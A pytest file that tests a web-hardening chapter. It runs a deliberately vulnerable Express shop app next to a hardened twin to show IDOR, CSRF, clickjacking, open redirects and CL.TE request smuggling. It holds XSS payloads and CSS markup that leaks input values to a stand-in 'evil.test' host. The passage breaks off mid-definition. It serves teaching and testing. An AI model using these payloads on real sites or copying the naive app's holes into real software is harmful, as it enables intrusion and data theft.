"""What docs/chapters/hardening.md says, run."""

import contextlib
import json
import re
import socket
import subprocess
import sys
import time
from urllib.parse import urlencode

import httpx
import pytest

from lab import ROOT, browser, evidence, figure, load, node

TOPIC = "hardening"
SOURCE = "tests/chapters/test_hardening.py"
ANN = {"email": "ann@shop.test", "password": "correct horse"}
BOB = {"email": "bob@shop.test", "password": "battery staple"}
# The proxy connects from 127.0.0.2, see lab.services.
PROXY = "127.0.0.2"


def uri(snippet: str) -> str:
    name = snippet if "/" in snippet else f"{TOPIC}/{snippet}"
    return node.resolve(name).as_uri()


def package(name: str) -> str:
    """A package's address, for a module that does not stand in snippets/."""
    main = "index.mjs" if name == "helmet" else "index.js"
    return node.resolve(f"node_modules/{name}/{main}").as_uri()


def javascript(source: str, timeout: float = 20) -> str:
    done = node.evaluate(source, timeout)
    assert done.code == 0, done.stderr
    return done.stdout


def until(condition, seconds: float = 15) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, "it did not happen in time"
        time.sleep(0.02)


# --- the app and its naive twin -----------------------------------------------------

DEPS = f"""
import {{ ordersOf }} from '{uri("orders.mjs")}';
export const store = ordersOf([
  {{ id: 'ord_1', customer: 'cus_ann', note: 'ring twice', status: 'open', version: 1 }},
  {{ id: 'ord_2', customer: 'cus_bob', note: 'no nuts', status: 'shipped', version: 1 }},
]);
const people = {json.dumps([{**ANN, "id": "cus_ann"}, {**BOB, "id": "cus_bob"}])};
export const check = async (email, password) =>
  people.find((one) => one.email === email && one.password === password) ?? null;
export const logger = {{
  info: (fields, message) => console.log(JSON.stringify({{ message, ...fields }})),
  error: ({{ error, instance }}) => console.log(error.stack, instance),
}};
"""


@pytest.fixture
def app(tmp_path):
    """Writes a module that serves a factory with the dependencies above, and `deps`."""

    def write(snippet: str, deps: str = "", before: str = "", name: str = "module"):
        (tmp_path / "deps.mjs").write_text(DEPS)
        path = tmp_path / f"{name}.mjs"
        path.write_text(
            f"import {{ createApp as create }} from '{uri(snippet)}';\n"
            f"import {{ check, logger, store }} from './deps.mjs';\n{before}\n"
            f"export function createApp() {{\n"
            f"  return create({{ check, logger, store, {deps} }});\n}}\n"
        )
        return path

    return write


# Behind its proxy, which says so, the hardened app knows that the client has HTTPS.
BEHIND = f"proxies: ['127.0.0.1', '{PROXY}']"


class Visitor:
    """A client without a browser's rules: it says what the proxy would say, and keeps
    cookies whatever their flags."""

    def __init__(self, server, person: dict | None = None, **headers: str) -> None:
        self.client = load.client(server.url)
        self.headers = {"X-Forwarded-Proto": "https", "Sec-Fetch-Site": "same-origin"}
        self.headers |= headers
        if person:
            answer = self.post("/login", person)
            assert answer.status_code in (302, 303), answer.text
            cookies = answer.headers.get_list("Set-Cookie")
            self.headers["Cookie"] = "; ".join(one.split(";")[0] for one in cookies)

    def get(self, path: str, **more: str) -> httpx.Response:
        return self.client.get(path, headers={**self.headers, **more})

    def post(self, path: str, data: dict | None = None, **more: str) -> httpx.Response:
        headers = {**self.headers, **more}
        return self.client.post(path, data=data or {"x": "y"}, headers=headers)


TWINS = pytest.mark.parametrize("snippet", ["app.naive.mjs", "app.mjs"])


@TWINS
def test_an_order_of_somebody_else_is_shown_and_cancelled_by_the_naive_app(app, snippet):
    naive = "naive" in snippet
    with node.serve(app(snippet, BEHIND)) as server:
        bob = Visitor(server, BOB)
        assert ("ring twice" in bob.get("/orders/ord_1").text) is naive
        assert ("ord_1" in bob.get("/orders").text) is naive
        cancelled = bob.post("/orders/ord_1/cancellation")
        assert cancelled.status_code == (302 if naive else 404)
        ann = Visitor(server, ANN)
        shown = ann.get("/orders/ord_1").text
        assert ("cancelled" in shown) is naive
        if not naive:  # her own she may, once
            assert ann.post("/orders/ord_1/cancellation").status_code == 303
            assert ann.post("/orders/ord_1/cancellation").status_code == 409
            assert "ord_1: cancelled" in ann.get("/orders/ord_1").text


def test_whoever_is_not_logged_in_comes_back_to_where_they_wanted_to_go(app):
    with node.serve(app("app.mjs", BEHIND)) as server:
        nobody = Visitor(server)
        sent = nobody.get("/orders/ord_1")
        assert sent.headers["Location"] == "/login?next=%2Forders%2Ford_1"
        page = nobody.get(sent.headers["Location"])
        assert 'value="/orders/ord_1"' in page.text
        there = nobody.post("/login", {**ANN, "next": "/orders/ord_1"})
        assert there.headers["Location"] == "https://shop.test/orders/ord_1"
        assert nobody.post("/login", {**ANN, "password": "x"}).status_code == 401
        assert nobody.post("/login", {"email": "a"}).status_code == 400


def test_the_hardened_app_takes_a_note_that_is_short_text_and_shows_it_as_text(app):
    with node.serve(app("app.mjs", BEHIND)) as server:
        ann = Visitor(server, ANN)
        script = "<script>alert(1)</script>"
        assert ann.post("/orders/ord_1/note", {"note": script}).status_code == 303
        shown = ann.get("/orders/ord_1").text
        assert "&#60;script&#62;alert(1)" in shown and script not in shown
        assert ann.post("/orders/ord_1/note", {"note": "x" * 501}).status_code == 422
        assert ann.post("/orders/ord_1/note").status_code == 422
        assert ann.get("/orders?q=alert").text.count("ord_1") == 2  # address and text
        assert ann.get("/nowhere").status_code == 404


def test_two_changes_at_once_are_one_change():
    seen = javascript(f"""
    import {{ ordersOf }} from '{uri("orders.mjs")}';
    const order = {{ id: 'a', customer: 'ann', version: 1, status: 'open' }};
    const mine = ordersOf([order]).of('ann');
    const done = await Promise.all([1, 2].map(() => mine.update('a', 1, order)));
    console.log(done.map(Boolean).join(' '), (await mine.get('a')).version);
    """)
    assert seen.split() == ["true", "false", "2"]


@TWINS
def test_an_error_tells_the_naive_apps_client_where_its_code_is(app, snippet):
    naive = "naive" in snippet
    broken = "store: { all: { get() { throw new Error('db-7.internal'); } }, "
    broken += "of: () => ({ get() { throw new Error('db-7.internal'); } }) }"
    with node.serve(app(snippet, f"{BEHIND}, {broken}")) as server:
        answer = Visitor(server, ANN).get("/orders/ord_1")
        assert answer.status_code == 500
        assert ("db-7.internal" in answer.text) is naive
        assert ("node_modules" in answer.text) is naive
        assert ("X-Powered-By" in answer.headers) is naive
        if not naive:
            instance = answer.json()["instance"]
            assert instance in server.output() and "db-7.internal" in server.output()
            assert "Content-Security-Policy" in answer.headers  # on errors, too


# --- headers ------------------------------------------------------------------------

HEADERS = """
import express from 'express';
import helmet from 'helmet';
import { once } from 'node:events';
const warned = [];
console.warn = (text) => warned.push(text);
async function headersOf(...middleware) {
  const app = express();
  if (middleware.length) app.use(...middleware);
  app.get('/', (req, res) => res.json({ ok: true }));
  const server = app.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const answer = await fetch(`http://127.0.0.1:${server.address().port}/`);
  server.close();
  server.closeAllConnections();
  return Object.fromEntries(answer.headers);
}
"""


def test_helmet_changes_thirteen_headers_twelve_of_them_by_setting():
    seen = javascript(
        HEADERS
        + """
    console.log(JSON.stringify([await headersOf(), await headersOf(helmet())]));
    """
    )
    bare, helmeted = json.loads(seen)
    assert set(helmeted) - set(bare) == {
        "content-security-policy", "cross-origin-opener-policy",
        "cross-origin-resource-policy", "origin-agent-cluster", "referrer-policy",
        "strict-transport-security", "x-content-type-options", "x-dns-prefetch-control",
        "x-download-options", "x-frame-options", "x-permitted-cross-domain-policies",
        "x-xss-protection",
    }  # fmt: skip
    assert set(bare) - set(helmeted) == {"x-powered-by"}
    same = (set(bare) & set(helmeted)) - {"date"}
    assert all(bare[name] == helmeted[name] for name in same)


@pytest.mark.claim("hardening/hide-powered-by-set-to")
def test_set_to_is_ignored_and_only_one_of_two_spellings_says_so():
    seen = javascript(
        HEADERS
        + """
    const fake = { setTo: 'PHP 4.2.0' };
    const seen = [
      await headersOf(helmet.hidePoweredBy(fake)),
      await headersOf(helmet({ hidePoweredBy: fake })),
    ];
    console.log(seen.map((one) => one['x-powered-by']).join(), warned.length);
    console.log(warned[0]);
    """
    )
    assert seen.splitlines() == [
        ", 1",
        "X-Powered-By does not take options. Remove the property to silence this warning.",
    ]


@pytest.mark.claim("hardening/helmet-secures")
def test_with_helmet_the_naive_app_falls_to_all_that_is_not_about_a_header(app):
    path = app("app.naive.mjs")
    path.write_text(f"""
import express from '{package("express")}';
import helmet from '{package("helmet")}';
import {{ createApp as naive }} from '{uri("app.naive.mjs")}';
import * as deps from './deps.mjs';
export function createApp() {{
  return express().use(helmet(), naive(deps));
}}
""")
    with node.serve(path) as server:
        bob = Visitor(server, BOB, **{"Sec-Fetch-Site": "cross-site"})
        assert "Content-Security-Policy" in bob.get("/orders").headers
        assert "ring twice" in bob.get("/orders/ord_1").text  # somebody else's
        assert bob.post("/orders/ord_1/cancellation").status_code == 302  # by any site
        script = "<script>alert(1)</script>"
        bob.post("/orders/ord_1/note", {"note": script})
        assert script in bob.get("/orders/ord_1").text
        away = bob.post("/login", {**BOB, "next": "https://evil.test/"})
        assert away.headers["Location"] == "https://evil.test/"
        assert "node_modules" in bob.get("/orders/unknown").text
        wrong = {**ANN, "password": "wrong"}
        guesses = [bob.post("/login", wrong).status_code for _ in range(50)]
        assert set(guesses) == {401}  # as often as you like


def test_the_nonce_is_another_in_each_answer_and_in_page_and_header_the_same(app):
    with node.serve(app("app.mjs", BEHIND)) as server:
        answers = [Visitor(server).get("/login") for _ in range(3)]
        policies = [one.headers["Content-Security-Policy"] for one in answers]
        nonces = [
            re.search(r"script-src 'nonce-([\w-]{22})'", one)[1] for one in policies
        ]
        assert len(set(nonces)) == 3
        for answer, nonce in zip(answers, nonces, strict=True):
            assert f'<style nonce="{nonce}">' in answer.text
            assert answer.headers["Cache-Control"] == "no-store"
        assert "'unsafe-inline'" not in policies[0]
        assert answers[0].headers["Strict-Transport-Security"].startswith("max-age=63072")
        assert answers[0].headers["X-Frame-Options"] == "DENY"


# --- cookies ------------------------------------------------------------------------

SESSION = """
import express from '{express}';
import {{ sessions }} from '{session}';
export function createApp() {{
  const app = express();
  app.set('trust proxy', {proxies});
  app.use(sessions({{ keys: ['k'] }}));
  app.post('/login', (req, res) => {{
    req.session = {{ user: 'ann' }};
    res.sendStatus(204);
  }});
  return app;
}}
"""


def serve_session(path, session: str, proxies: str):
    path.write_text(
        SESSION.format(express=package("express"), session=session, proxies=proxies)
    )
    return node.serve(path)


def login_behind_a_proxy(server) -> tuple[int, list[str]]:
    """Status of a login, and the first cookie's parts."""
    with server.client() as client:
        answer = client.post("/login", headers={"X-Forwarded-Proto": "https"})
        cookies = answer.headers.get_list("Set-Cookie")
        return answer.status_code, cookies[0].split("; ") if cookies else []


@pytest.mark.claim("hardening/cookie-sample-sets-its-flags")
def test_the_samples_flags_are_ignored_all_of_them(tmp_path):
    path = tmp_path / "session.mjs"
    with serve_session(path, uri("session.naive.mjs"), "false") as server:
        status, (name, *flags) = login_behind_a_proxy(server)
    assert status == 204
    assert name.startswith("session=")
    # httponly is the library's default; no Secure, no Expires, another path
    assert flags == ["path=/", "httponly"]
    # where Express knows of the HTTPS, the library adds Secure by itself
    with serve_session(path, uri("session.naive.mjs"), "'loopback'") as server:
        assert login_behind_a_proxy(server)[1][1:] == ["path=/", "secure", "httponly"]


@pytest.mark.claim("hardening/secure-cookie-behind-a-proxy")
def test_without_trust_proxy_a_secure_cookie_is_dropped_and_nothing_says_so(tmp_path):
    right = tmp_path / "right.mjs"
    right.write_text(f"""
    import cookieSession from '{package("cookie-session")}';
    export const sessions = ({{ keys }}) => cookieSession({{ keys, secure: true }});
    """)
    path = tmp_path / "session.mjs"
    with serve_session(path, right.as_uri(), "false") as server:
        # logged in, as far as anybody can tell
        assert login_behind_a_proxy(server) == (204, [])
        assert server.output().strip() == f"listening on {server.url}"
    with serve_session(path, right.as_uri(), "'loopback'") as server:
        assert "secure" in login_behind_a_proxy(server)[1]


def test_the_hardened_apps_cookie_has_all_flags_and_ends_with_the_logout(app):
    with node.serve(app("app.mjs")) as server:
        ann = Visitor(server)
        answer = ann.post("/login", ANN)
        pair, *flags = answer.headers["Set-Cookie"].split("; ")
        assert pair.startswith("__Host-session=")
        assert {"HttpOnly", "Secure", "SameSite=Lax", "Path=/"} < set(flags)
        ann.headers["Cookie"] = pair
        assert ann.get("/orders").status_code == 200
        assert ann.get("/orders", Cookie=f"{pair}x").status_code == 303
        again = ann.post("/login", ANN).headers["Set-Cookie"].split("; ")[0]
        assert again != pair  # a new session: nobody can have planted its id
        cleared = ann.post("/logout").headers["Set-Cookie"]
        assert cleared.startswith("__Host-session=;") and "1970" in cleared
        assert ann.get("/orders").status_code == 303  # gone, wherever it was copied to


def test_a_session_ends_by_the_clock_and_only_its_hash_is_kept():
    seen = javascript(f"""
    import {{ sessionsOf }} from '{uri("session.mjs")}';
    let time = 0;
    const rows = new Map();
    const sessions = sessionsOf({{ rows, life: 1000, now: () => time }});
    const cookies = [];
    const res = {{ cookie: (name, value) => cookies.push(`${{name}}=${{value}}`) }};
    await sessions.start(res, {{ id: 'ann' }});
    const req = {{ headers: {{ cookie: cookies[0] }} }};
    const kept = [...rows.keys()].some((key) => cookies[0].includes(key));
    const during = (await sessions.userOf(req)).id;
    time = 1000;
    console.log(kept, during, await sessions.userOf(req));
    """)
    assert seen.split() == ["false", "ann", "null"]


# --- redirects ----------------------------------------------------------------------

TARGETS = [
    "https://evil.test/", "//evil.test/", "/\\evil.test/", "https:evil.test",
    "\t//evil.test", "/\t/evil.test/", "javascript:alert(1)",
    "javascript://shop.test/%0aalert(1)", "data:text/html,x", "https://shop.test@evil.test/",
    "https://shop.test.evil.test/", "http://shop.test/", "//shop.test:8443/",
    "blob:https://shop.test/x", "/x/..//evil.test/", "/.//evil.test/", "", "\\\\evil.test",
]  # fmt: skip


def destinations(snippet: str, ours: str) -> dict[str, str | None]:
    return json.loads(
        javascript(f"""
    import {{ destination }} from '{uri(snippet)}';
    const targets = {json.dumps(TARGETS)};
    const all = targets.map((one) => [one, destination(one, '{ours}')]);
    console.log(JSON.stringify(Object.fromEntries(all)));
    """)
    )


@pytest.mark.claim("hardening/host-check-is-enough")
def test_a_check_of_the_host_takes_javascript_and_http_addresses():
    taken = {
        one for one, to in destinations("redirect.naive.mjs", "shop.test").items() if to
    }
    assert taken == {"javascript://shop.test/%0aalert(1)", "http://shop.test/"}
    hardened = destinations("redirect.mjs", "https://shop.test")
    assert len(hardened) == len(TARGETS)
    for target, to in hardened.items():
        assert to.startswith("https://shop.test/"), target
    # the path alone would have been the attacker's host again
    assert hardened["/x/..//evil.test/"] == "https://shop.test//evil.test/"
    assert hardened["//evil.test/"] == "https://shop.test/"


@TWINS
def test_after_the_login_the_naive_app_sends_people_to_another_site(app, snippet):
    naive = "naive" in snippet
    with node.serve(app(snippet, BEHIND)) as server:
        visitor = Visitor(server)
        for target in ("https://evil.test/", "//evil.test/"):
            to = visitor.post("/login", {**ANN, "next": target}).headers["Location"]
            assert to == (target if naive else "https://shop.test/orders")


# --- request smuggling --------------------------------------------------------------


def smuggled() -> dict[str, dict]:
    """What Node's two parsers make of each payload."""
    rows = json.loads(
        javascript(f"""
    import {{ matrix }} from '{uri("smuggling.mjs")}';
    console.log(JSON.stringify(await matrix()));
    """)
    )
    return {row.pop("name"): row for row in rows}


@pytest.mark.claim("hardening/smuggling")
def test_the_default_parser_smuggles_nothing_and_the_insecure_one_does():
    rows = smuggled()
    plain = rows.pop("plain")
    assert plain["strict"] == plain["lenient"] == {"urls": ["/"], "code": "200"}
    assert len(rows) == 14
    assert all(row["strict"]["code"] == "400" for row in rows.values())
    assert not any("/admin" in row["strict"]["urls"] for row in rows.values())
    let_in = {name for name, row in rows.items() if "/admin" in row["lenient"]["urls"]}
    assert let_in == {
        "CL.TE", "TE before the colon", "TE folded", "no CRLF after the chunk",
    }  # fmt: skip


# A proxy as there once were many: it forbids /admin, knows Content-Length only, and
# sends all clients' requests through one connection.
FRONT = r"""
import { createServer as createBack } from 'node:http';
import { connect, createServer } from 'node:net';
const back = createBack(OPTIONS, (req, res) => {
  console.log(`reached ${req.url}`);
  req.on('error', () => {}).resume();
  req.on('end', () => res.end('ok'));
});
back.listen(0, '127.0.0.1', () => {
  const inner = connect(back.address().port, '127.0.0.1');
  inner.on('error', () => {});
  const front = createServer((client) => {
    client.on('error', () => {});
    client.once('data', (bytes) => {
      const text = bytes.toString('latin1');
      const head = text.slice(0, text.indexOf('\r\n\r\n') + 4);
      if (/^\w+ [/]admin/.test(head)) return client.end('HTTP/1.1 403 No\r\n\r\n');
      const length = Number(/content-length: (\d+)/i.exec(head)?.[1] ?? 0);
      inner.pipe(client);
      return inner.write(text.slice(0, head.length + length), 'latin1');
    });
  });
  process.once('SIGTERM', () => { front.close(); inner.destroy(); back.close(); });
  front.listen(0, '127.0.0.1', () =>
    console.log(`listening on http://127.0.0.1:${front.address().port}`));
});
"""


@pytest.mark.parametrize("options", ["{ insecureHTTPParser: true }", "{}"])
def test_through_an_old_proxy_the_forbidden_path_is_reached_with_the_insecure_parser(
    tmp_path, options
):
    insecure = "true" in options
    path = tmp_path / "front.mjs"
    path.write_text(FRONT.replace("OPTIONS", options))
    payload = javascript(f"""
    import {{ PAYLOADS }} from '{uri("smuggled.mjs")}';
    process.stdout.write(PAYLOADS['CL.TE']);
    """)
    with node.serve(path) as server:
        assert b" 403 " in exchange(server.port, b"GET /admin HTTP/1.1\r\n\r\n")
        assert (b" 200 " if insecure else b" 400 ") in exchange(
            server.port, payload.encode()
        )
        until(lambda: not insecure or "reached /admin" in server.output())
        assert ("reached /admin" in server.output()) is insecure


def exchange(port: int, data: bytes) -> bytes:
    """The first bytes of the answer to some bytes."""
    with socket.create_connection(("127.0.0.1", port), 10) as connection:
        connection.sendall(data)
        return connection.recv(4096)


# --- in the browser -----------------------------------------------------------------

# One server is all hosts: the app is at shop.test, and at each other one a page that
# frames, posts a form, or is a script.
HOSTS = """
import {{ createServer }} from 'node:https';
import {{ readFileSync }} from 'node:fs';
import {{ createApp }} from '{app}';
const pem = readFileSync('{tls}');
const app = await createApp();
const seen = [];
const ATTACKS = {{
  '/frame': ({{ url }}) => `<iframe src="${{url}}" width=600 height=400></iframe>`,
  '/form': ({{ url }}) => `<form method=post action="${{url}}"><button id=go>Win</form>`,
}};
const server = createServer({{ key: pem, cert: pem }}, (req, res) => {{
  const host = req.headers.host.split(':')[0];
  if (host === 'shop.test') return app(req, res);
  const url = new URL(req.url, 'https://evil.test');
  if (url.pathname === '/seen') return res.end(JSON.stringify(seen));
  const attack = ATTACKS[url.pathname]?.(Object.fromEntries(url.searchParams));
  res.setHeader('Access-Control-Allow-Origin', '*');
  if (!attack) seen.push(req.url);
  res.setHeader('Content-Type', attack ? 'text/html' : 'text/javascript');
  return res.end(attack ?? "console.log('ran')");
}});
process.once('SIGTERM', () => {{ server.close(); server.closeAllConnections(); }});
server.listen(0, '127.0.0.1', () =>
  console.log(`listening on http://127.0.0.1:${{server.address().port}}`));
"""


@contextlib.contextmanager
def hosts(named_hosts, folder, module):
    """Serves the hosts around a module's app; gives a page, and `host(name)`."""
    tls = browser.certificate(folder, "shop.test", "blog.shop.test", "evil.test")
    path = folder / "hosts.mjs"
    path.write_text(HOSTS.format(app=module.as_uri(), tls=tls))
    with node.serve(path) as server:

        def host(name: str) -> str:
            return f"https://{name}:{server.port}"

        context = named_hosts()
        context.set_default_timeout(20_000)
        page = context.new_page()
        try:
            yield page, host
        finally:
            page.goto("about:blank")
            page.close()
            context.clear_cookies()


@pytest.fixture
def site(named_hosts, tmp_path, app):
    """`with site(snippet) as (page, host)`: Ann is logged in at shop.test."""

    @contextlib.contextmanager
    def serve(snippet: str):
        # its port is known only now, so the app learns its origin by the first request
        module = app(snippet, "origin: 'https://shop.test'")
        with hosts(named_hosts, tmp_path, module) as (page, host):
            page.goto(f"{host('shop.test')}/login")
            page.fill("input[name=email]", ANN["email"])
            page.fill("input[name=password]", ANN["password"])
            with page.expect_response(lambda one: one.request.method == "POST"):
                page.click("button")
            yield page, host

    return serve


def order(page, host) -> str:
    page.goto(f"{host('shop.test')}/orders/ord_1")
    return page.inner_text("body")


@TWINS
def test_in_chromium_a_sibling_hosts_page_frames_the_naive_app_and_a_click_cancels(
    site, snippet
):
    naive = "naive" in snippet
    with site(snippet) as (page, host):
        assert "for cus_ann" in order(page, host)
        target = f"{host('shop.test')}/orders/ord_1"
        seen = {}
        for name in ("evil.test", "blog.shop.test"):
            page.goto(f"{host(name)}/frame?url={target}", wait_until="load")
            frame = page.frames[1]
            shown = frame.evaluate("document.body?.innerText ?? ''") if naive else ""
            seen[name] = (frame.url == target, "for cus_ann" in shown)
            if naive and name == "blog.shop.test":
                with page.expect_response(lambda one: one.request.method == "POST"):
                    frame.click("#cancel")
        # framed, and with the user's cookie in it
        if naive:
            assert seen == {"evil.test": (True, False), "blog.shop.test": (True, True)}
        else:
            assert not any(framed for framed, _ in seen.values())
        assert ("cancelled" in order(page, host)) is naive


@pytest.mark.claim("hardening/csrf-needs-a-token")
@TWINS
def test_in_chromium_another_pages_form_cancels_an_order_of_the_naive_app(site, snippet):
    naive = "naive" in snippet
    with site(snippet) as (page, host):
        target = f"{host('shop.test')}/orders/ord_1/cancellation"
        for name in ("blog.shop.test", "evil.test"):
            page.goto(f"{host(name)}/form?url={target}")
            with page.expect_response(lambda one: one.request.method == "POST") as sent:
                page.click("#go")
            # Lax spares the naive app nothing: the cookie is younger than two minutes
            assert sent.value.status == (302 if naive else 403), name
        order(page, host)
        if not naive:
            with page.expect_response(lambda one: one.request.method == "POST") as sent:
                page.click("#cancel")
            assert sent.value.status == 303  # its own form


@TWINS
def test_in_chromium_a_script_reads_the_naive_apps_cookie(site, snippet):
    with site(snippet) as (page, host):
        order(page, host)
        cookie = page.evaluate("document.cookie")
        assert ("sid=" in cookie) is ("naive" in snippet)
        assert "session" not in cookie
        assert any("s" in one["name"] for one in page.context.cookies())


ORIGIN = """
import express from '{express}';
import helmet from '{helmet}';
export function createApp() {{
  const app = express();
  app.use(helmet({{ referrerPolicy: {policy}, contentSecurityPolicy: false }}));
  app.get('/', (req, res) => res.send('<form method=post><button id=go>Go</form>'));
  app.post('/', (req, res) => res.json({{
    origin: req.get('Origin'), site: req.get('Sec-Fetch-Site') }}));
  return app;
}}
"""


@pytest.mark.claim("hardening/origin-check-with-helmet")
def test_in_chromium_helmets_referrer_policy_makes_our_own_forms_origin_null(
    named_hosts, tmp_path
):
    seen = {}
    for policy in ("undefined", "{ policy: 'same-origin' }"):
        path = tmp_path / "origin.mjs"
        names = {name: package(name) for name in ("express", "helmet")}
        path.write_text(ORIGIN.format(policy=policy, **names))
        with hosts(named_hosts, tmp_path, path) as (page, host):
            page.goto(host("shop.test"))
            with page.expect_navigation():
                page.click("#go")
            told = json.loads(page.inner_text("body"))
            assert told["site"] == "same-origin"
            seen[policy] = told["origin"].split(":")[0]
    assert list(seen.values()) == ["null", "https"]


# --- a page that forgot to encode, and three policies -------------------------------

POLICIES = {
    "none": "[]",
    "Helmet's default": "[helmet()]",
    "nonce": "[headers()]",
    "nonce, reported only": "[reports({ logger }), headers({ reportOnly: true })]",
}


@pytest.fixture
def forgotten(named_hosts, tmp_path):
    """`with forgotten(policy) as (look, host, output)`: `look(note)` shows the note in
    Chromium and gives what the console said."""

    @contextlib.contextmanager
    def serve(policy: str):
        uploads = tmp_path / "uploads"
        uploads.mkdir(exist_ok=True)
        (uploads / "ran.js").write_text("console.log('ran')")
        (uploads / "ran.html").write_text('<script src="/uploads/ran.js"></script>')
        module = tmp_path / "forgotten.mjs"
        module.write_text(
            FORGOTTEN_APP.format(
                helmet=package("helmet"), policy=POLICIES[policy], uploads=uploads,
                express=package("express"),
                **{name: uri(f"{name}.mjs") for name in ("headers", "reports")},
                forgotten=uri("forgotten.naive.mjs"),
            )
        )  # fmt: skip
        with hosts(named_hosts, tmp_path, module) as (page, host):
            said = []
            page.on("console", lambda message: said.append(message.text))

            def look(note: str) -> list[str]:
                said.clear()
                page.goto(f"{host('shop.test')}/?{urlencode({'note': note})}")
                if page.locator("#go").count():
                    page.locator("#go").first.dispatch_event("click")
                # timers and frames of what was loaded have had their turn
                page.evaluate(SETTLED)
                return list(said)

            yield look, host, page

    return serve


FORGOTTEN_APP = """
import express from '{express}';
import helmet from '{helmet}';
import {{ createApp as create }} from '{forgotten}';
import {{ headers }} from '{headers}';
import {{ reports }} from '{reports}';
const reported = [];
const logger = {{ info: (fields) => reported.push(fields) }};
const around = {{ headers: {policy}, uploads: '{uploads}' }};
export function createApp() {{
  const outer = express();
  outer.get('/reported', (req, res) => res.json(reported));
  outer.use((req, res) => create({{ note: req.query.note, ...around }})(req, res));
  return outer;
}}
"""
SETTLED = """() => new Promise((done) =>
  requestAnimationFrame(() => setTimeout(done, 20)))"""


def payloads(evil: str) -> dict[str, dict[str, str]]:
    return json.loads(
        javascript(f"""
    import {{ ELSEWHERE, INLINE, OURS }} from '{uri("payloads.mjs")}';
    const kinds = {{ inline: INLINE, elsewhere: ELSEWHERE('{evil}'), ours: OURS }};
    console.log(JSON.stringify(kinds));
    """)
    )


def ran(said: list[str]) -> bool:
    # an own message of the browser quotes what it refused
    return any(text in ("ran", "{note: ran}") for text in said)


def executed(look, host) -> dict[str, dict[str, bool]]:
    return {
        kind: {name: ran(look(note)) for name, note in notes.items()}
        for kind, notes in payloads(host("evil.test")).items()
    }


@pytest.mark.claim("hardening/csp-default-stops-xss")
def test_helmets_policy_runs_what_our_own_site_serves_and_the_nonce_nothing(forgotten):
    for policy, expected in (
        ("none", [True, True, True, True]),
        ("Helmet's default", [False, False, True, True]),
        ("nonce", [False, False, False, False]),
    ):
        with forgotten(policy) as (look, host, _):
            kinds = payloads(host("evil.test"))
            some = [
                kinds["inline"]["img onerror"],
                kinds["elsewhere"]["base"],
                kinds["ours"]["uploaded .js"],
                kinds["ours"]["JSONP"],
            ]
            assert [ran(look(note)) for note in some] == expected, policy


@pytest.mark.timing
def test_thirty_payloads_in_chromium_by_policy(forgotten):
    """Exact counts; here since it records a figure, and takes its time."""
    rows = {}
    for policy in list(POLICIES)[:3]:
        with forgotten(policy) as (look, host, _):
            rows[policy] = executed(look, host)
    counts = {
        policy: [sum(notes.values()) for notes in kinds.values()]
        for policy, kinds in rows.items()
    }
    assert list(counts.values()) == [[21, 3, 6], [0, 0, 6], [0, 0, 0]]
    for key, policy in (
        ("xss-none", "none"), ("xss-default", "Helmet's default"), ("xss-nonce", "nonce")
    ):  # fmt: skip
        evidence.hold(
            f"{TOPIC}/{key}", sum(counts[policy]), "of 30",
            f"XSS payloads that ran in Chromium, policy: {policy}", source=SOURCE,
        )  # fmt: skip
    drawing, axes = figure.plot(height=2.6)
    kinds = ["inline, or javascript:", "another host, or base", "our own site's files"]
    left = [0, 0, 0]
    for index, kind in enumerate(kinds):
        some = [counts[policy][index] for policy in counts]
        bars = axes.barh(list(counts), some, left=left, label=kind, height=0.6)
        labels = [str(n) if n else "" for n in some]
        axes.bar_label(bars, labels, label_type="center", color="white")
        left = [a + b for a, b in zip(left, some, strict=True)]
    axes.invert_yaxis()
    axes.set_xlabel("payloads that ran, of 30")
    axes.set_xlim(0, 30.5)
    axes.legend(loc="lower right")
    axes.grid(visible=False, axis="y")
    figure.publish(
        f"{TOPIC}/csp", drawing,
        "Bars by policy: without one all 30 XSS payloads ran in Chromium; under Helmet's "
        "default 6 ran, all of them scripts from the site itself; under the policy by "
        "nonce none.",
        {"policy": list(counts)}
        | {kind: [counts[p][i] for p in counts] for i, kind in enumerate(kinds)},
        source=SOURCE,
    )  # fmt: skip


LEAKS = {
    "@import": "<style>@import url({evil}/leak-import)</style>",
    "font by value": "<style>@font-face{{font-family:f;src:url({evil}/leak-s)}}"
    "input[value^=s]{{font-family:f}}</style>",
    "image by value": "<style>input[value^=s]{{background:url({evil}/leak-i)}}</style>",
    "img": "<img src={evil}/leak-img>",
}


@pytest.mark.claim("hardening/no-script-no-leak")
def test_without_any_script_a_style_tells_another_host_what_the_field_holds(forgotten):
    seen = {}
    for policy in list(POLICIES)[:3]:
        with forgotten(policy) as (look, host, page):
            for markup in LEAKS.values():
                look(markup.format(evil=host("evil.test")))
            page.goto(f"{host('evil.test')}/seen")
            asked = json.loads(page.inner_text("body"))
            seen[policy] = {one for one in asked if one.startswith("/leak")}
    assert seen["none"] == {"/leak-import", "/leak-s", "/leak-i", "/leak-img"}
    assert seen["Helmet's default"] == {"/leak-import", "/leak-s"}
    assert seen["nonce"] == set()


@pytest.mark.claim("hardening/report-only-protects")
def test_a_policy_that_only_reports_reports_and_stops_nothing(forgotten):
    with forgotten("nonce, reported only") as (look, host, _):
        said = look("<img src=x onerror=\"console.log('ran')\">")
        assert ran(said)

        def reported() -> list[dict]:
            with load.client(host("127.0.0.1"), headers={"Host": "shop.test"}) as client:
                return client.get("/reported").json()

        until(reported)
        assert reported()[0]["directive"] == "script-src-attr"
        assert reported()[0]["blocked"] == "inline"


def test_a_report_is_small_json_and_what_is_in_it_becomes_short_text():
    seen = javascript(
        f"""
    import {{ reports }} from '{uri("reports.mjs")}';
    """
        + """
    import express from 'express';
    import { once } from 'node:events';
    const told = [];
    const app = express().use(reports({ logger: { info: (one) => told.push(one) } }));
    const server = app.listen(0, '127.0.0.1');
    await once(server, 'listening');
    async function send(body) {
      const headers = { 'Content-Type': 'application/csp-report' };
      const url = `http://127.0.0.1:${server.address().port}/csp-reports`;
      return (await fetch(url, { method: 'POST', headers, body })).status;
    }
    const long = { 'csp-report': { 'blocked-uri': 'x'.repeat(5000), 'document-uri': {} } };
    console.log(await send(JSON.stringify(long)), await send('[]'), await send(''));
    console.log(await send('x'.repeat(9000)), told[0].blocked.length, told[0].page);
    server.close();
    server.closeAllConnections();
    """
    )
    assert seen.splitlines() == ["204 204 204", "413 200 [object Object]"]


# --- TLS ----------------------------------------------------------------------------

TLS = """
import {{ createServer as plain }} from 'node:https';
import {{ readFileSync }} from 'node:fs';
import {{ serverOf as naive }} from '{naive}';
